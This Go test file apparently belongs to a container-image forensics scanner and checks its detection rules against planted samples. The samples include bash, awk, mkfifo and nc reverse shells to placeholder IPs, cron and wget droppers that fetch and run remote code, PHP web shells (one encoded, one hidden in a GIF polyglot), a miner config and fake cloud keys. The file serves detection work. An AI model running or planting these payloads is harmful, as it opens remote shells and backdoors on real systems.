package audit_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/trust"
	"github.com/strata-forensics/strata/forensics"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

const (
	demoSuspect  = "../testdata/images/demo-suspect.tar"
	demoOriginal = "../testdata/images/demo-original.tar"
)

// Test samples. The key material is shaped like the real thing and is not a key.
const (
	bashReverseShell = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n"
	awkReverseShell  = "#!/bin/sh\nawk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while(42) { do{ printf \"> \" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null\n"
	cronFetch        = "*/5 * * * * root curl -fsSL http://203.0.113.45/a.sh | sh\n"
	minerConfig      = `{"autosave": true, "pools": [{"algo": "rx/0", "url": "pool.example.org:443", "user": "worker-01", "pass": "x"}]}` + "\n"
	phpWebshell      = "<?php system($_GET['cmd']); ?>\n"
	simpleBackdoor   = "<!-- Simple PHP backdoor -->\n<?php\nif(isset($_REQUEST['cmd'])){\n        echo \"<pre>\";\n        $cmd = ($_REQUEST['cmd']);\n        system($cmd);\n        echo \"</pre>\";\n        die;\n}\n?>\n"
	encodedShell     = "<?php /* cache */ @eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>\n"
	sshKey           = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH2l0M3j1b9Y8v9z0bq7l5u6o3o1vJc3gk2d4m2s8r9x deploy@ci\n"
	awsKeyID         = "AKIAQ3EGRTSWV4MZLX7P"
	awsSecret        = "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"
)

// gifPolyglot is a valid one-pixel GIF with a PHP page in its comment extension.
var gifPolyglot = []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xfe\x1c<?php system($_GET['c']); ?>\x00" +
	",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")

func pemKey() string {
	line := strings.Repeat("MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun", 1)
	return "-----BEGIN RSA PRIVATE KEY-----\n" + line + "\n" + line + "\n" + line + "\n-----END RSA PRIVATE KEY-----\n"
}

// demoPlus is the clean demo image with extra layers on top, each with its history step.
func demoPlus(layers ...imagebuild.Layer) imagebuild.Image {
	img := imagebuild.DemoOriginal()
	img.Layers = append([]imagebuild.Layer(nil), img.Layers...)
	img.History = append([]imagebuild.Step(nil), img.History...)
	for _, l := range layers {
		if l.Created.IsZero() {
			l.Created = img.Created
		}
		img.Layers = append(img.Layers, l)
		img.History = append(img.History, imagebuild.Step{Created: l.Created, CreatedBy: l.CreatedBy, Comment: "buildkit.dockerfile.v0"})
	}
	return img
}

func layer(createdBy string, files ...imagebuild.File) imagebuild.Layer {
	return imagebuild.Layer{CreatedBy: createdBy, Files: files}
}

type want struct {
	rule     string
	category audit.Category
	severity audit.Severity // at least
	layer    int
	path     string
	title    string // substring, when set
}

func TestCategories(t *testing.T) {
	late := imagebuild.DemoOriginal().Created.Add(30 * 24 * time.Hour)
	tests := []struct {
		name   string
		image  imagebuild.Image
		tamper func(*imagebuild.Built) error
		trust  func(t *testing.T, s trust.Store)
		want   []want
		// none lists rules that must not be raised.
		none []string
	}{
		{name: "reverse shell script",
			image: demoPlus(layer("COPY backup.sh /usr/local/bin/ # buildkit", imagebuild.Reg("usr/local/bin/backup.sh", bashReverseShell).WithMode(0o755))),
			want:  []want{{rule: "STRATA-RS-001", category: audit.CategoryReverseShell, severity: audit.Critical, layer: 6, path: "/usr/local/bin/backup.sh"}}},
		{name: "LD_PRELOAD in Env and ld.so.preload",
			image: func() imagebuild.Image {
				img := demoPlus(layer("COPY lib /usr/share/lib # buildkit",
					imagebuild.RegBytes("usr/share/lib/reverse_shell.so", imagebuild.ReverseShellSO()).WithMode(0o755),
					imagebuild.Reg("etc/ld.so.preload", "/usr/share/lib/reverse_shell.so\n")))
				img.Config.Env = append(img.Config.Env, "LD_PRELOAD=/usr/share/lib/reverse_shell.so")
				return img
			}(),
			want: []want{
				{rule: "STRATA-CF-003", category: audit.CategoryLDPreload, severity: audit.Critical, layer: 6, path: "/usr/share/lib/reverse_shell.so"},
				{rule: "STRATA-FS-003", category: audit.CategoryLDPreload, severity: audit.Critical, layer: 6, path: "/etc/ld.so.preload"},
				{rule: "STRATA-LP-001", category: audit.CategoryLDPreload, severity: audit.Critical, layer: 6, path: "/usr/share/lib/reverse_shell.so"},
			}},
		{name: "cron persistence",
			image: demoPlus(layer("COPY sync /etc/cron.d/ # buildkit", imagebuild.Reg("etc/cron.d/sync", cronFetch))),
			want:  []want{{rule: "STRATA-PS-001", category: audit.CategoryPersistence, severity: audit.Critical, layer: 6, path: "/etc/cron.d/sync"}}},
		{name: "authorized_keys for root",
			image: demoPlus(layer("COPY keys /root/.ssh/authorized_keys # buildkit", imagebuild.Reg("root/.ssh/authorized_keys", sshKey).WithMode(0o600))),
			want: []want{
				{rule: "STRATA-FS-004", category: audit.CategorySSHKey, severity: audit.High, layer: 6, path: "/root/.ssh/authorized_keys"},
				{rule: "STRATA-SK-002", category: audit.CategorySSHKey, severity: audit.High, layer: 6, path: "/root/.ssh/authorized_keys"},
			}},
		{name: "root's history linked to /dev/null",
			image: demoPlus(layer("RUN ln -sf /dev/null /root/.bash_history", imagebuild.Symlink("root/.bash_history", "/dev/null"), imagebuild.Symlink("root/.profile.d", "/etc/profile.d"))),
			want:  []want{{rule: "STRATA-FS-011", category: audit.CategoryTamper, severity: audit.Medium, layer: 6, path: "/root/.bash_history"}}},
		{name: "program with a hidden name in /usr/sbin",
			image: demoPlus(layer("COPY .clearlog /usr/sbin/ # buildkit", imagebuild.RegBytes("usr/sbin/.clearlog", imagebuild.ReverseShellSO()).WithMode(0o755),
				imagebuild.Reg("usr/share/doc/tool/.keep", "").WithMode(0o644))),
			want: []want{{rule: "STRATA-FS-012", category: audit.CategoryHiddenFile, severity: audit.High, layer: 6, path: "/usr/sbin/.clearlog"}}},
		{name: "dot-named data and hidden programs outside the program directories",
			image: demoPlus(layer("COPY . / # buildkit", imagebuild.Reg("usr/bin/.config", "x=1\n").WithMode(0o644),
				imagebuild.Reg("usr/lib/x86_64-linux-gnu/.libgcrypt.so.20.hmac", "0123\n").WithMode(0o644),
				imagebuild.Reg("opt/app/bin/.helper", "#!/bin/sh\ntrue\n").WithMode(0o755))),
			none: []string{"STRATA-FS-012"}},
		{name: "miner config",
			image: demoPlus(layer("COPY config.json /opt/tools/ # buildkit", imagebuild.Reg("opt/tools/config.json", minerConfig))),
			want:  []want{{rule: "STRATA-MN-003", category: audit.CategoryMiner, severity: audit.High, layer: 6, path: "/opt/tools/config.json"}}},
		{name: "PHP web shell",
			image: demoPlus(layer("COPY html /var/www/html # buildkit", imagebuild.Reg("var/www/html/status.php", phpWebshell))),
			want:  []want{{rule: "STRATA-WS-101", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6, path: "/var/www/html/status.php"}}},
		{name: "PHP web shell through a variable",
			image: demoPlus(layer("COPY html /var/www/html # buildkit", imagebuild.Reg("var/www/html/simple-backdoor.php", simpleBackdoor))),
			want: []want{{rule: "STRATA-WS-101", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6,
				path: "/var/www/html/simple-backdoor.php", title: "system()"}}},
		{name: "GIF/PHP polyglot",
			image: demoPlus(layer("COPY uploads /var/www/html/uploads # buildkit", imagebuild.RegBytes("var/www/html/uploads/avatar.gif", gifPolyglot))),
			want: []want{{rule: "STRATA-WS-101", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6,
				path: "/var/www/html/uploads/avatar.gif", title: "polyglot: GIF image with a PHP page inside"}}},
		{name: "base64-encoded reverse shell stage",
			image: demoPlus(layer("COPY stage.sh /opt/ # buildkit", imagebuild.Reg("opt/stage.sh", "#!/bin/sh\necho "+base64.StdEncoding.EncodeToString([]byte(bashReverseShell))+" | base64 -d | sh\n").WithMode(0o755))),
			want: []want{{rule: "STRATA-RS-001", category: audit.CategoryReverseShell, severity: audit.Critical, layer: 6,
				path: "/opt/stage.sh", title: "(decoded: base64)"}}},
		{name: "encoded PHP web shell",
			image: demoPlus(layer("COPY html /var/www/html # buildkit", imagebuild.Reg("var/www/html/wp-cache.php", encodedShell))),
			want: []want{{rule: "STRATA-WS-101", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6,
				path: "/var/www/html/wp-cache.php", title: "decoded: base64 > gzinflate"}}},
		{name: "AWS key and private key",
			image: demoPlus(layer("COPY . /app # buildkit",
				imagebuild.Reg("app/.env", "AWS_ACCESS_KEY_ID="+awsKeyID+"\nAWS_SECRET_ACCESS_KEY="+awsSecret+"\n"),
				imagebuild.Reg("app/deploy/id_rsa", pemKey()).WithMode(0o600))),
			want: []want{
				{rule: "STRATA-SE-011", category: audit.CategorySecret, severity: audit.High, layer: 6, path: "/app/.env"},
				{rule: "STRATA-SE-012", category: audit.CategorySecret, severity: audit.Critical, layer: 6, path: "/app/.env"},
				{rule: "STRATA-SE-010", category: audit.CategorySecret, severity: audit.High, layer: 6, path: "/app/deploy/id_rsa"},
			},
			none: []string{"STRATA-SE-020"}},
		{name: "new setuid binaries in /tmp and /usr/share",
			image: demoPlus(layer("RUN /bin/sh -c cp /bin/bash /tmp/.x && chmod u+s /tmp/.x # buildkit",
				imagebuild.Dir("tmp").WithMode(0o1777),
				imagebuild.RegBytes("tmp/.x", []byte("\x7fELF\x02\x01\x01")).WithMode(0o4755),
				imagebuild.RegBytes("usr/share/misc/helper", []byte("\x7fELF\x02\x01\x01")).WithMode(0o4755))),
			want: []want{
				{rule: "STRATA-FS-001", category: audit.CategorySUID, severity: audit.High, layer: 6, path: "/tmp/.x"},
				{rule: "STRATA-FS-001", category: audit.CategorySUID, severity: audit.High, layer: 6, path: "/usr/share/misc/helper"},
			}},
		{name: "root user and EXPOSE 22",
			image: func() imagebuild.Image {
				img := imagebuild.DemoOriginal()
				img.Config.User = ""
				img.Config.ExposedPorts = []string{"22/tcp", "8080/tcp"}
				return img
			}(),
			want: []want{
				{rule: "STRATA-CF-001", category: audit.CategoryRootUser, severity: audit.Medium, layer: -1},
				{rule: "STRATA-CF-002", category: audit.CategoryExposedPort, severity: audit.Medium, layer: -1, title: "22/tcp"},
			}},
		{name: "whited-out reverse shells",
			image: demoPlus(
				layer("RUN /bin/sh -c curl -o /tmp/s.sh http://203.0.113.45/s.sh # buildkit",
					imagebuild.Dir("tmp").WithMode(0o1777),
					imagebuild.Reg("tmp/rs.sh", bashReverseShell).WithMode(0o755),
					imagebuild.Reg("tmp/sync.sh", awkReverseShell).WithMode(0o755)),
				layer("RUN /bin/sh -c sh /tmp/s.sh; rm -f /tmp/rs.sh /tmp/sync.sh # buildkit",
					imagebuild.Dir("tmp").WithMode(0o1777),
					imagebuild.Whiteout("tmp/rs.sh"), imagebuild.Whiteout("tmp/sync.sh"))),
			want: []want{
				// RS-012 is high on its own; hidden, it is raised to critical.
				{rule: "STRATA-RS-012", category: audit.CategoryReverseShell, severity: audit.Critical, layer: 6, path: "/tmp/sync.sh", title: "hidden: removed by layer 7"},
				{rule: "STRATA-FS-008", category: audit.CategoryHiddenFile, severity: audit.Critical, layer: 6, path: "/tmp/sync.sh"},
				{rule: "STRATA-RS-001", category: audit.CategoryReverseShell, severity: audit.Critical, layer: 6, path: "/tmp/rs.sh", title: "hidden"},
				{rule: "STRATA-FS-008", category: audit.CategoryHiddenFile, severity: audit.Critical, layer: 6, path: "/tmp/rs.sh"},
			}},
		{name: "timestomped executable",
			image: demoPlus(layer("COPY tools /usr/local/bin/ # buildkit",
				imagebuild.Reg("usr/local/bin/helper", "#!/bin/sh\necho ok\n").WithMode(0o755).WithTime(late),
				imagebuild.Reg("usr/local/share/notes.txt", "notes\n").WithTime(late))),
			want: []want{
				{rule: "STRATA-FS-007", category: audit.CategoryTimestomp, severity: audit.Medium, layer: 6, path: "/usr/local/bin/helper"},
				{rule: "STRATA-FS-007", category: audit.CategoryTimestomp, severity: audit.Low, layer: 6, path: "/usr/local/share/notes.txt"},
			}},
		{name: "replaced layer",
			image: imagebuild.DemoOriginal(),
			tamper: func(b *imagebuild.Built) error {
				return b.ReplaceLayer(4, imagebuild.Layer{Files: []imagebuild.File{imagebuild.Reg("app/server.py", "print('hi')\n")}})
			},
			want: []want{{rule: "STRATA-TP-002", category: audit.CategoryTamper, severity: audit.High, layer: 4}}},
		{name: "untrusted base",
			image: imagebuild.DemoOriginal(),
			trust: func(t *testing.T, s trust.Store) {
				s.Add(trust.Image{ConfigDigest: "sha256:other", DiffIDs: []string{"sha256:0000"}, Tags: []string{"alpine:3"}})
			},
			want: []want{{rule: "STRATA-TR-001", category: audit.CategoryUntrustedBase, severity: audit.Medium, layer: 0}}},
		{name: "misconfigurations",
			image: demoPlus(layer("RUN /bin/sh -c curl -fsSL https://get.example.com/install.sh | sh # buildkit",
				imagebuild.Reg("etc/app.conf", "x=1\n").WithMode(0o666),
				imagebuild.RegBytes("usr/bin/sudo", []byte("\x7fELF\x02\x01\x01")).WithMode(0o4755))),
			want: []want{
				{rule: "STRATA-CF-005", category: audit.CategoryMisconfig, severity: audit.Medium, layer: 6},
				{rule: "STRATA-FS-002", category: audit.CategoryMisconfig, severity: audit.Medium, layer: 6, path: "/etc/app.conf"},
				{rule: "STRATA-CF-008", category: audit.CategoryMisconfig, severity: audit.Low, layer: 6, path: "/usr/bin/sudo"},
				{rule: "STRATA-FS-001", category: audit.CategorySUID, severity: audit.Info, layer: 6, path: "/usr/bin/sudo"},
			}},
		{name: "dropper",
			image: demoPlus(layer("COPY start.sh / # buildkit", imagebuild.Reg("start.sh", "#!/bin/sh\ncd /dev/shm && wget -q http://198.51.100.7/x86 -O /dev/shm/.kthread && chmod +x /dev/shm/.kthread && /dev/shm/.kthread\n").WithMode(0o755))),
			want:  []want{{rule: "STRATA-MW-002", category: audit.CategoryMalware, severity: audit.High, layer: 6, path: "/start.sh"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ref := saveImage(t, tc.image, tc.tamper)
			var store trust.Store
			if tc.trust != nil {
				fs := trust.NewFileStore(t.TempDir())
				tc.trust(t, fs)
				store = fs
			}
			res := scanRef(t, ref, store)
			for _, w := range tc.want {
				f := find(res, w.rule, w.layer, w.path)
				if f == nil {
					t.Errorf("no %s at layer %d %s; got:\n%s", w.rule, w.layer, w.path, dump(res))
					continue
				}
				if f.Category != w.category || f.Severity < w.severity || !strings.Contains(f.Title, w.title) {
					t.Errorf("%s: got %s/%s %q, want %s/at least %s %q", w.rule, f.Category, f.Severity, f.Title, w.category, w.severity, w.title)
				}
				if f.Layer >= 0 && (f.History < 0 || f.CreatedBy == "") {
					t.Errorf("%s at layer %d has no history step", w.rule, f.Layer)
				}
				if f.Image.Input != ref || f.Image.ConfigDigest == "" {
					t.Errorf("%s: image identity %+v", w.rule, f.Image)
				}
			}
			for _, r := range tc.none {
				if f := find(res, r, -2, ""); f != nil {
					t.Errorf("unexpected %s: %+v", r, *f)
				}
			}
		})
	}
}

// find returns the finding with the rule, layer (-2: any) and path ("" with layer -2: any).
func find(res *audit.Result, rule string, layer int, path string) *audit.Finding {
	for i, f := range res.Findings {
		if f.Rule == rule && (layer == -2 || f.Layer == layer) && (path == "" || f.Path == path) {
			return &res.Findings[i]
		}
	}
	return nil
}

func dump(res *audit.Result) string {
	var b strings.Builder
	for _, f := range res.Findings {
		fmt.Fprintf(&b, "  %-8s %-14s L%-2d %s %s\n", f.Severity, f.Rule, f.Layer, f.Path, f.Title)
	}
	return b.String()
}

func TestDemoPair(t *testing.T) {
	res := scanRef(t, demoSuspect, nil)
	for _, w := range []struct{ rule, path string }{
		{"STRATA-LP-001", imagebuild.DemoPreloadPath},
		{"STRATA-CF-003", imagebuild.DemoPreloadPath},
		{"STRATA-PS-001", imagebuild.DemoCronPath},
	} {
		f := find(res, w.rule, 5, w.path)
		if f == nil {
			t.Errorf("suspect: no %s at layer 5 %s:\n%s", w.rule, w.path, dump(res))
			continue
		}
		if f.Severity != audit.Critical || f.History != 8 || !strings.Contains(f.CreatedBy, "COPY docker-entrypoint.sh /") {
			t.Errorf("suspect: %s: %s, history %d %q", w.rule, f.Severity, f.History, f.CreatedBy)
		}
	}
	if res.Verdict() != audit.VerdictSuspicious || !strings.Contains(res.Headline(), "layer 5 (COPY docker-entrypoint.sh /)") {
		t.Errorf("suspect headline: %s", res.Headline())
	}
	// Findings are sorted: severity down, then layer, then path.
	for i := 1; i < len(res.Findings); i++ {
		a, b := res.Findings[i-1], res.Findings[i]
		if a.Severity < b.Severity || a.Severity == b.Severity && (a.Layer > b.Layer || a.Layer == b.Layer && a.Path > b.Path) {
			t.Errorf("findings out of order: %s %d %s before %s %d %s", a.Severity, a.Layer, a.Path, b.Severity, b.Layer, b.Path)
		}
	}

	orig := scanRef(t, demoOriginal, nil)
	if orig.AtLeast(audit.High) {
		t.Errorf("original: high or critical findings:\n%s", dump(orig))
	}
	if orig.Files != 70 || orig.Scanned != 70 {
		t.Errorf("original: %d files, %d scanned", orig.Files, orig.Scanned)
	}
}

func TestTrustedBase(t *testing.T) {
	img, err := forensics.Open(context.Background(), demoOriginal, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	base := trust.FromImage(img, time.Now())
	img.Close()
	base.DiffIDs = base.DiffIDs[:2]
	store := trust.NewFileStore(t.TempDir())
	if err := store.Add(trust.Image{ConfigDigest: "sha256:short", DiffIDs: base.DiffIDs[:1], Tags: []string{"debian:12"}}); err != nil {
		t.Fatal(err)
	}
	if err := store.Add(base); err != nil {
		t.Fatal(err)
	}
	res := scanRef(t, demoSuspect, store)
	if res.Base == nil || res.Base.Layers != 2 {
		t.Fatalf("base: %+v, want the longer trusted chain (2 layers)", res.Base)
	}
	if f := find(res, "STRATA-TR-001", -2, ""); f != nil {
		t.Errorf("untrusted-base raised for an image on a trusted base: %+v", *f)
	}
	list, _ := store.List()
	if len(list) != 2 {
		t.Errorf("store holds %d images", len(list))
	}
}

func TestMaxFileSize(t *testing.T) {
	big := strings.Repeat("x", 4096)
	ref := saveImage(t, demoPlus(layer("COPY big /data/ # buildkit", imagebuild.Reg("data/big.bin", big+bashReverseShell))), nil)
	img, err := forensics.Open(context.Background(), ref, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer img.Close()
	res, err := audit.Scan(context.Background(), img, audit.Options{Analyzers: scanSet(t), MaxFileSize: 1024})
	if err != nil {
		t.Fatal(err)
	}
	f := find(res, audit.RuleNotScanned, 6, "/data/big.bin")
	if f == nil || f.Severity != audit.Info || !strings.HasPrefix(f.Evidence, "sha256:") {
		t.Fatalf("big file not reported as not content-scanned:\n%s", dump(res))
	}
	if res.Scanned >= res.Files {
		t.Errorf("scanned %d of %d files", res.Scanned, res.Files)
	}
}

// streamRecorder is a StreamAnalyzer that keeps what it is streamed.
type streamRecorder struct {
	mu  sync.Mutex
	got map[string]*bytes.Buffer
}

func (r *streamRecorder) Name() string                               { return "stream-recorder" }
func (r *streamRecorder) Content(audit.File, []byte) []audit.Finding { return nil }
func (r *streamRecorder) Stream(f audit.File) io.WriteCloser {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.got == nil {
		r.got = map[string]*bytes.Buffer{}
	}
	b := &bytes.Buffer{}
	r.got[f.Entry.Path] = b
	return nopCloser{b}
}

type nopCloser struct{ io.Writer }

func (nopCloser) Close() error { return nil }

// Files over MaxFileSize reach every StreamAnalyzer whole, in the same pass, and are still
// reported as not content-scanned.
func TestStreamAnalyzers(t *testing.T) {
	big := strings.Repeat("x", 4096) + bashReverseShell
	ref := saveImage(t, demoPlus(layer("COPY big /data/ # buildkit", imagebuild.Reg("data/big.bin", big))), nil)
	img, err := forensics.Open(context.Background(), ref, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer img.Close()
	a, b := &streamRecorder{}, &streamRecorder{}
	res, err := audit.Scan(context.Background(), img, audit.Options{Analyzers: append(scanSet(t), a, b), MaxFileSize: 1024})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range []*streamRecorder{a, b} {
		if got := r.got["/data/big.bin"]; got == nil || got.String() != big {
			t.Errorf("big file not streamed whole: %d files streamed", len(r.got))
		}
		for p, got := range r.got {
			if got.Len() <= 1024 {
				t.Errorf("%s (%d bytes) streamed", p, got.Len())
			}
		}
	}
	if find(res, audit.RuleNotScanned, 6, "/data/big.bin") == nil {
		t.Errorf("big file not reported as not content-scanned:\n%s", dump(res))
	}
}

// parallelFinder is a ParallelAnalyzer that raises one finding per file it is given.
type parallelFinder struct{}

func (parallelFinder) Name() string     { return "parallel-finder" }
func (parallelFinder) ParallelContent() {}
func (parallelFinder) Content(f audit.File, data []byte) []audit.Finding {
	return []audit.Finding{{Rule: "TEST-PAR", Category: audit.CategoryMalware, Severity: audit.Low, Evidence: fmt.Sprint(len(data))}}
}

// A ParallelAnalyzer sees big files beside the other analyzers (and small ones after them);
// its findings are kept either way, with layer and path filled in.
func TestParallelAnalyzers(t *testing.T) {
	big := strings.Repeat("x", 256<<10) + bashReverseShell
	ref := saveImage(t, demoPlus(layer("COPY big /data/ # buildkit", imagebuild.Reg("data/big.bin", big), imagebuild.Reg("data/small.sh", bashReverseShell))), nil)
	img, err := forensics.Open(context.Background(), ref, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer img.Close()
	res, err := audit.Scan(context.Background(), img, audit.Options{Analyzers: append(scanSet(t), parallelFinder{})})
	if err != nil {
		t.Fatal(err)
	}
	for p, size := range map[string]int{"/data/big.bin": len(big), "/data/small.sh": len(bashReverseShell)} {
		f := find(res, "TEST-PAR", 6, p)
		if f == nil || f.Evidence != fmt.Sprint(size) {
			t.Errorf("%s: parallel analyzer finding %+v", p, f)
		}
	}
	others := 0
	for _, f := range res.Findings {
		if f.Path == "/data/big.bin" && f.Rule != "TEST-PAR" && f.Category == audit.CategoryReverseShell {
			others++
		}
	}
	if others == 0 {
		t.Errorf("the other analyzers did not see the big file's reverse shell:\n%s", dump(res))
	}
}

func TestSeverity(t *testing.T) {
	for _, s := range audit.Severities {
		got, err := audit.ParseSeverity(strings.ToUpper(s.String()))
		if err != nil || got != s {
			t.Errorf("ParseSeverity(%s) = %v, %v", s, got, err)
		}
	}
	if _, err := audit.ParseSeverity("severe"); err == nil {
		t.Error("ParseSeverity accepted severe")
	}
	if audit.High.Raise(1) != audit.Critical || audit.Critical.Raise(1) != audit.Critical || audit.Low.Raise(-2) != audit.Info {
		t.Error("Raise does not stay within info..critical")
	}
	if got := audit.Redact("hunter2hunter2"); got != "hunt**** (14 chars)" {
		t.Errorf("Redact: %q", got)
	}
}

// Known vulnerabilities are a risk, not a sign of tampering: they do not make the verdict, and
// the headline counts them apart.
func TestVerdictLeavesVulnerabilitiesApart(t *testing.T) {
	vuln := audit.Finding{Rule: "CVE-2024-0001", Category: audit.CategoryVulnerability, Severity: audit.Critical, Layer: 0}
	shell := audit.Finding{Rule: "STRATA-RS-001", Category: audit.CategoryReverseShell, Severity: audit.High, Layer: 1, Path: "/x.sh"}
	tests := []struct {
		name     string
		findings []audit.Finding
		verdict  string
		headline []string
	}{
		{"only a vulnerability", []audit.Finding{vuln}, audit.VerdictClean, []string{"CLEAN: nothing above low", "known vulnerabilities: 1 critical"}},
		{"an implant and a vulnerability", []audit.Finding{vuln, shell}, audit.VerdictSuspicious, []string{"SUSPICIOUS: 1 high — reverse-shell in layer 1", "known vulnerabilities: 1 critical"}},
		{"an implant alone", []audit.Finding{shell}, audit.VerdictSuspicious, []string{"SUSPICIOUS: 1 high"}},
	}
	for _, tt := range tests {
		r := &audit.Result{Findings: tt.findings}
		audit.Sort(r.Findings)
		if got := r.Verdict(); got != tt.verdict {
			t.Errorf("%s: verdict %s, want %s", tt.name, got, tt.verdict)
		}
		h := r.Headline()
		for _, want := range tt.headline {
			if !strings.Contains(h, want) {
				t.Errorf("%s: headline %q lacks %q", tt.name, h, want)
			}
		}
		if tt.name == "an implant alone" && strings.Contains(h, "vulnerabilit") {
			t.Errorf("%s: headline %q speaks of vulnerabilities", tt.name, h)
		}
		if !r.AtLeast(audit.High) {
			t.Errorf("%s: AtLeast(high) is false: --fail-on must still see every finding", tt.name)
		}
	}
}

// TestIssueCases: what scans missed before detection went by behaviour, each in a built image,
// found by a scan alone with the categories that fit and at the layer that holds it.
func TestIssueCases(t *testing.T) {
	stage := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\nwhile true; do\n  bash -i >& /dev/tcp/203.0.113.45/443 0>&1\n  sleep 30\ndone\n"))
	tests := []struct {
		name  string
		image imagebuild.Image
		want  []struct {
			rule  string
			layer int
			path  string
			cats  []audit.Category
			title string
		}
	}{
		{name: "mkfifo reverse shell over two lines",
			image: demoPlus(layer("COPY sync /usr/local/bin/ # buildkit", imagebuild.Reg("usr/local/bin/sync",
				"#!/bin/sh\nmkfifo /tmp/.f\ncat /tmp/.f | /bin/sh -i 2>&1 | nc 203.0.113.45 4444 > /tmp/.f\n").WithMode(0o755))),
			want: []struct {
				rule  string
				layer int
				path  string
				cats  []audit.Category
				title string
			}{{"STRATA-RS-003", 6, "/usr/local/bin/sync", []audit.Category{audit.CategoryReverseShell}, ""}}},
		{name: "whited-out script and an encoded stage in a later-hidden directory",
			image: demoPlus(
				layer("RUN /bin/sh -c /tmp/setup.sh # buildkit",
					imagebuild.Dir("tmp").WithMode(0o1777),
					imagebuild.Reg("tmp/setup.sh", "#!/bin/sh\necho preparing the cache\ncp /opt/.cache/agent /usr/local/sbin/ 2>/dev/null || true\n").WithMode(0o755),
					imagebuild.Dir("opt"), imagebuild.Dir("opt/.cache"),
					imagebuild.Reg("opt/.cache/stage.dat", stage+"\n"),
					imagebuild.Reg("opt/.cache/loader", "#!/bin/sh\nbase64 -d /opt/.cache/stage.dat | sh\n").WithMode(0o755)),
				layer("RUN /bin/sh -c rm -rf /tmp/setup.sh /opt/.cache # buildkit",
					imagebuild.Dir("tmp").WithMode(0o1777), imagebuild.Whiteout("tmp/setup.sh"),
					imagebuild.Dir("opt"), imagebuild.Whiteout("opt/.cache"))),
			want: []struct {
				rule  string
				layer int
				path  string
				cats  []audit.Category
				title string
			}{
				{"STRATA-FS-009", 6, "/tmp/setup.sh", []audit.Category{audit.CategoryHiddenFile}, "whited out by layer 7"},
				{"STRATA-RS-001", 6, "/opt/.cache/stage.dat", []audit.Category{audit.CategoryReverseShell, audit.CategoryHiddenFile}, "base64"},
				{"STRATA-EX-002", 6, "/opt/.cache/loader", []audit.Category{audit.CategoryMalware, audit.CategoryHiddenFile}, ""},
				{"STRATA-FS-008", 6, "/opt/.cache/stage.dat", []audit.Category{audit.CategoryHiddenFile}, "removed by layer 7"},
			}},
		{name: "nc -e in a crontab line",
			image: demoPlus(layer("COPY jobs /etc/cron.d/ # buildkit", imagebuild.Reg("etc/cron.d/apt-refresh",
				"SHELL=/bin/sh\n*/15 * * * * root nc -e /bin/sh 203.0.113.45 4444 >/dev/null 2>&1\n"))),
			want: []struct {
				rule  string
				layer int
				path  string
				cats  []audit.Category
				title string
			}{{"STRATA-RS-002", 6, "/etc/cron.d/apt-refresh", []audit.Category{audit.CategoryReverseShell, audit.CategoryPersistence}, ""}}},
		{name: "LD_PRELOAD library that connects, dup2s and execs a shell",
			image: func() imagebuild.Image {
				img := demoPlus(layer("COPY lib /usr/share/lib # buildkit",
					imagebuild.RegBytes("usr/share/lib/libnss_cache.so", imagebuild.ReverseShellSO()).WithMode(0o755)))
				img.Config.Env = append(img.Config.Env, "LD_PRELOAD=/usr/share/lib/libnss_cache.so")
				return img
			}(),
			want: []struct {
				rule  string
				layer int
				path  string
				cats  []audit.Category
				title string
			}{{"STRATA-LP-001", 6, "/usr/share/lib/libnss_cache.so", []audit.Category{audit.CategoryLDPreload, audit.CategoryReverseShell}, ""}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res := scanRef(t, saveImage(t, tc.image, nil), nil)
			for _, w := range tc.want {
				f := find(res, w.rule, w.layer, w.path)
				if f == nil {
					t.Errorf("no %s at layer %d %s; got:\n%s", w.rule, w.layer, w.path, dump(res))
					continue
				}
				for _, c := range w.cats {
					if !f.Is(c) {
						t.Errorf("%s at %s: categories %v lack %s", w.rule, w.path, f.Categories(), c)
					}
				}
				if f.Severity < audit.Medium || !strings.Contains(f.Title, w.title) {
					t.Errorf("%s at %s: %s %q, want at least medium and %q", w.rule, w.path, f.Severity, f.Title, w.title)
				}
				if len(f.Techniques) == 0 {
					t.Errorf("%s at %s: no ATT&CK technique", w.rule, w.path)
				}
			}
		})
	}
}
